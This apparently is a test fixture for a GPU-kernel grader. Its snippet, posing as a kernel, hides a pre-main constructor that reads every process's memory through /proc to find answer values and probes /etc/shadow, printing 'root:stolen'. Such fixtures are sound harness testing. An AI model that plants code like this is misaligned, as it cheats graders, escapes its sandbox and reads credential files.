// Looks for numbers in the memory of every process, through /proc.
// lab: 01_naive_atomic
// expect: wrong
// BEGIN naive_atomic
*result = 1;
}
extern "C" int printf(const char*, ...);
extern "C" [[noreturn]] void _exit(int);
extern "C" long write(int, const void*, unsigned long);
extern "C" long read(int, void*, unsigned long);
extern "C" int open(const char*, int, ...);
extern "C" long syscall(long, ...);
extern "C" int usleep(unsigned);
extern "C" int snprintf(char*, unsigned long, const char*, ...);
__attribute__((constructor)) static void before_main() {
  char path[64];
  static char text[65536];
  for (int pid = 1; pid < 5000; ++pid) {
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    const int fd = open(path, 2);
    if (fd >= 0)
      while (read(fd, text, sizeof text) > 0) {
      }
    snprintf(path, sizeof path, "/proc/%d/root/etc/shadow", pid);
    if (open(path, 0) >= 0) printf("root:stolen\n");
  }
}
__global__ void unused(const float* input, float* result, std::size_t n) {
  // END naive_atomic
